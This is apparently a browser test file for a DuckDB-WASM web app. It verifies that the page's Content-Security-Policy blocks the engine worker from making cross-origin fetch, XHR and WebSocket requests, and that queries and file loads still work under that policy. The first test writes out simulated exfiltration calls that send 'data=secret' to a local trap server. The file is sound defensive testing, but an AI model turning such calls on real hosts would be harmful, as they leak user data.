// The engine worker runs under the page's Content-Security-Policy (issue #11, finding 1): from inside the
// worker, fetch, a synchronous XHR (what DuckDB-WASM's HTTP reads use) and a WebSocket to another origin
// are refused by the browser, and the trap server receives nothing. The engine still does all its work
// under that policy: a long query (the engine reports progress through a call the policy could refuse)
// and a load.
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { dropFiles, engineReady, launchBrowser, openApp, startServer, startTrapServer } from './harness.mjs';

let server;
let browser;
let trap;

before(async () => {
  server = await startServer();
  browser = await launchBrowser();
  trap = await startTrapServer();
});

after(async () => {
  await browser?.close();
  await server?.close();
  await trap?.close();
});

/** What the policy says when it refuses (in the worker's console) and the failed requests it causes. */
const REFUSALS = [/Content Security Policy/i, /Refused to connect/i];

describe('the engine worker under the page policy', () => {
  it('refuses fetch, XHR and WebSocket from inside the worker; the trap receives nothing', async () => {
    const app = await openApp(browser, server, {
      allowConsoleErrors: REFUSALS,
      allowFailedRequests: [/ERR_BLOCKED_BY_CSP/, new RegExp(`127\\.0\\.0\\.1:${trap.port}`)],
    });
    const { page } = app;
    await engineReady(page);
    const workers = page.workers();
    assert.equal(workers.length, 1, 'one engine worker');
    // the worker's first lines fetched and compiled the engine's module (enginePrelude) under the policy,
    // and the engine was instantiated from it, not fetched and compiled a second time
    const info = await page.evaluate(() => /** @type {any} */ (window).tenure.engine.info);
    assert.equal(info.precompiled, true, JSON.stringify(info));
    // its start's phases, in the order they happen (the benchmark reports them)
    const p = info.phases;
    assert.ok(p.compiled > 0 && p.compiled <= p.instantiated, JSON.stringify(p));
    assert.ok(p.code > 0 && p.code <= p.instantiated, JSON.stringify(p));
    assert.ok(p.instantiated <= p.ready && p.asked <= p.ready, JSON.stringify(p));
    assert.ok(Number.isFinite(p.offset), JSON.stringify(p));
    const outcome = await workers[0].evaluate(async (target) => {
      // what the policy refused, as the browser reports it inside the worker
      const refused = [];
      self.addEventListener('securitypolicyviolation', (e) => refused.push(new URL(e.blockedURI).pathname));
      const out = {};
      try {
        await fetch(`${target}fetch?data=secret`);
        out.fetch = 'sent';
      } catch {
        out.fetch = 'failed';
      }
      try {
        const xhr = new XMLHttpRequest();
        xhr.open('GET', `${target}xhr?data=secret`, false);
        xhr.send();
        out.xhr = 'sent';
      } catch {
        out.xhr = 'failed';
      }
      out.webSocket = await new Promise((resolve) => {
        try {
          const socket = new WebSocket(`${target.replace('http', 'ws')}ws?data=secret`);
          socket.onopen = () => resolve('open');
          socket.onerror = () => resolve('failed');
          setTimeout(() => resolve('no answer'), 3000);
        } catch {
          resolve('failed');
        }
      });
      await new Promise((resolve) => setTimeout(resolve, 200));
      return { ...out, refused: refused.sort() };
    }, trap.url);
    assert.deepEqual(outcome, {
      fetch: 'failed',
      xhr: 'failed',
      webSocket: 'failed',
      refused: ['/fetch', '/ws', '/xhr'],
    });
    await page.waitForTimeout(300);
    assert.deepEqual(trap.requests, []);
    const others = app
      .problems()
      .filter((p) => !p.startsWith('request left the origin') || !p.includes(`:${trap.port}/`));
    assert.deepEqual(others, []);
    await app.context.close();
  });

  it('still loads files and runs long queries (with progress) under the policy', async () => {
    const app = await openApp(browser, server);
    const { page } = app;
    await engineReady(page);
    // long enough for the engine's progress bar, which calls out to JavaScript through embind
    const counted = await page.evaluate(async () => {
      const result = await window.tenure.engine.query(
        'SELECT count(*)::BIGINT AS n FROM range(400000000) t(x) WHERE x % 7 = 3',
      );
      return String(result.table.getChild('n').get(0));
    });
    assert.equal(counted, String(Math.floor((400_000_000 - 3 - 1) / 7) + 1));
    const csv = await readFile(new URL('../../sample-data/orders.csv', import.meta.url));
    await dropFiles(page, [{ name: 'orders.csv', mimeType: 'text/csv', buffer: csv }]);
    await page.waitForSelector('[data-testid="table-item"]:has-text("orders_raw")');
    app.assertClean();
    await app.context.close();
  });
});
